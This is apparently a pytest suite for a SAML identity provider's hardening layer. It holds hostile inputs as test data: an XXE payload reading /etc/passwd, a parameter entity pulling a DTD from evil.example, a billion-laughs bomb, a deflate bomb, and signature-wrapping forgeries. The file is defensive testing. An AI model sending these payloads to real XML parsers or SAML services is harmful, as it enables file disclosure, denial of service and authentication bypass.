"""Untrusted SAML XML is refused early: declarations, bombs, bad signature shapes, stale times."""

import base64
import zlib
from datetime import UTC, datetime

import pytest
import xmlsec
from saml_support import authn_request, make_keypair, sign_xml

from idp.saml import hardening
from idp.saml.hardening import UnsafeMessage

SP = "https://sp.example.org/sp"
DEST = "https://idp.example.org/saml/sso"


def refused(reason, function, *args, **kwargs):
    with pytest.raises(UnsafeMessage) as caught:
        function(*args, **kwargs)
    assert caught.value.reason == reason


@pytest.fixture
def sp_key(tmp_path):
    return make_keypair(tmp_path, "sp")


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10)
                             for i in range(1, 10))
                  + b']><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'
                  b"&lol9;</samlp:AuthnRequest>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       b'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&x;'
       b"</samlp:AuthnRequest>")
PARAMETER_ENTITY = (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
                    b"<r/>")


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY,
                                      b"<!doctype r><r/>", b"<r/><!ENTITY x 'y'>"])
def test_declarations_are_refused_before_parsing(document):
    refused("dtd", hardening.parse, document)


def test_utf16_and_declared_foreign_encodings_are_refused():
    refused("encoding", hardening.parse, "<!DOCTYPE r><r/>".encode("utf-16"))
    refused("encoding", hardening.parse, b'<?xml version="1.0" encoding="ISO-8859-7"?><r/>')


def test_plain_request_parses():
    root = hardening.parse(authn_request(SP, DEST))
    assert root.get("ID") == "_req1"


def test_size_limits_hold_for_posted_and_deflated_messages():
    refused("too-large", hardening.parse, b"<r>" + b"a" * 300 + b"</r>", max_bytes=100)
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = bomb.compress(b"<r>" + b" " * 5_000_000 + b"</r>") + bomb.flush()
    refused("too-large", hardening.decode_redirect, base64.b64encode(deflated).decode())
    refused("too-large", hardening.decode_post, "A" * 400_000)


def test_redirect_decoding_round_trip():
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflater.compress(b"<r/>") + deflater.flush()
    assert hardening.decode_redirect(base64.b64encode(raw).decode()) == b"<r/>"
    refused("encoding", hardening.decode_redirect, base64.b64encode(b"not deflate").decode())


def test_a_well_formed_signature_passes_the_shape_checks(sp_key):
    root = hardening.parse(sign_xml(authn_request(SP, DEST), sp_key[0]))
    assert hardening.signature_of(root) is not None
    hardening.refuse_nested_signatures(root)


def test_unsigned_message_has_no_signature():
    assert hardening.signature_of(hardening.parse(authn_request(SP, DEST))) is None


@pytest.mark.parametrize("options, reason", [
    ({"method": xmlsec.Transform.RSA_SHA1}, "algorithm"),
    ({"digest": xmlsec.Transform.SHA1}, "algorithm"),
    ({"c14n": xmlsec.Transform.C14N}, "algorithm"),
    ({"transforms": (xmlsec.Transform.ENVELOPED, xmlsec.Transform.C14N)}, "transform"),
    ({"transforms": (xmlsec.Transform.EXCL_C14N,)}, "transform"),
    ({"transforms": (xmlsec.Transform.ENVELOPED, xmlsec.Transform.EXCL_C14N,
                     xmlsec.Transform.EXCL_C14N_COMMENTS)}, "transform"),
])
def test_disallowed_algorithms_and_transforms(sp_key, options, reason):
    signed = sign_xml(authn_request(SP, DEST), sp_key[0], **options)
    refused(reason, hardening.signature_of, hardening.parse(signed))


def test_xslt_or_xpath_transforms_are_refused_before_verification(sp_key):
    signed = sign_xml(authn_request(SP, DEST), sp_key[0])
    transform = '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
    for hostile in ("http://www.w3.org/TR/1999/REC-xslt-19991116",
                    "http://www.w3.org/TR/1999/REC-xpath-19991116"):
        edited = signed.replace(transform, f'<ds:Transform Algorithm="{hostile}"/>')
        refused("transform", hardening.signature_of, hardening.parse(edited))


def test_wrapping_signed_original_moved_below_a_forged_root_with_the_same_id(sp_key):
    genuine = sign_xml(authn_request(SP, DEST), sp_key[0])
    body = genuine.split(">", 1)[1].rsplit("<", 1)[0]  # children of the signed request
    forged = (authn_request(SP, DEST).replace("</samlp:AuthnRequest>", "")
              + f"<samlp:Extensions>{genuine}</samlp:Extensions>"
              + body.split("</ds:Signature>")[0] + "</ds:Signature></samlp:AuthnRequest>")
    root = hardening.parse(forged)
    refused("signature-shape", hardening.refuse_nested_signatures, root)
    refused("signature-shape", hardening.signature_of, root)


def test_wrapping_signature_referencing_another_element(sp_key):
    extension = '<samlp:Extensions><x ID="_other" xmlns="urn:x"/></samlp:Extensions>'
    request = authn_request(SP, DEST, extra=extension)
    signed = sign_xml(request, sp_key[0], element_id="_other")
    root = hardening.parse(signed)
    refused("signature-shape", hardening.refuse_nested_signatures, root)


def test_wrapping_reference_to_other_id_at_the_root(sp_key):
    signed = sign_xml(authn_request(SP, DEST), sp_key[0])
    root = hardening.parse(signed.replace('ID="_req1"', 'ID="_forged"', 1))
    refused("signature-shape", hardening.signature_of, root)


def test_two_signatures_and_object_are_refused(sp_key):
    signed = sign_xml(authn_request(SP, DEST), sp_key[0])
    signature = signed[signed.index("<ds:Signature"):signed.index("</ds:Signature>") + 15]
    doubled = signed.replace(signature, signature + signature)
    refused("signature-shape", hardening.signature_of, hardening.parse(doubled))
    with_object = signed.replace("</ds:Signature>", "<ds:Object>x</ds:Object></ds:Signature>")
    refused("signature-shape", hardening.signature_of, hardening.parse(with_object))


def test_issue_instant_window():
    now = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
    hardening.check_issue_instant("2026-05-01T11:58:00Z", now, max_age=300, skew=60)
    hardening.check_issue_instant("2026-05-01T12:00:30.123456789Z", now, max_age=300, skew=60)
    refused("issue-instant", hardening.check_issue_instant, "2026-05-01T11:50:00Z", now,
            max_age=300, skew=60)
    refused("issue-instant", hardening.check_issue_instant, "2026-05-01T12:05:00Z", now,
            max_age=300, skew=60)
    refused("issue-instant", hardening.check_issue_instant, "yesterday", now, 300, 60)
    refused("issue-instant", hardening.check_issue_instant, "2026-05-01T11:59:00", now, 300, 60)


def test_not_on_or_after():
    now = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
    hardening.check_not_expired("2026-05-01T12:05:00Z", now, skew=60)
    hardening.check_not_expired("2026-05-01T11:59:30Z", now, skew=60)
    refused("issue-instant", hardening.check_not_expired, "2026-05-01T11:58:00Z", now, 60)
    refused("issue-instant", hardening.check_not_expired, "soon", now, 60)


def test_relay_state_is_bounded_in_bytes_not_characters():
    hardening.check_relay_state("a" * 80)
    hardening.check_relay_state(None)
    refused("relay-state", hardening.check_relay_state, "a" * 81)
    refused("relay-state", hardening.check_relay_state, "α" * 41)


def test_redirect_signature_algorithm():
    hardening.check_redirect_algorithm("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256")
    refused("algorithm", hardening.check_redirect_algorithm,
            "http://www.w3.org/2000/09/xmldsig#rsa-sha1")
    refused("algorithm", hardening.check_redirect_algorithm, None)
